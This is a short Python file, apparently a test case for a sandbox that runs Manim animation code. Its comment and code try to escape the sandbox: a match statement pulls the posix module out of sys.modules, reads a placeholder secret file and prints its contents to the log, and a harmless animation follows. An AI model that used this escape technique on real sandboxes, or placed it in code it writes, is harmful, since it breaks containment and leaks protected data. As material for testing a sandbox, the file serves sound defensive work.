# ruff: noqa
# class: match-pattern
# tries: capture the posix module out of sys.modules with a mapping pattern inside a class pattern,
#   read the secret file with it and print it into the log.
from manim import *


class Escape(Scene):
    def construct(self):
        match mobject.mobject:
            case object(sys=object(modules={"posix": px})):
                fd = px.open("__SECRET_FILE__", px.O_RDONLY)
                print("secret:", px.read(fd, 4096).decode())
                px.close(fd)
        self.play(FadeIn(Dot()), run_time=0.2)
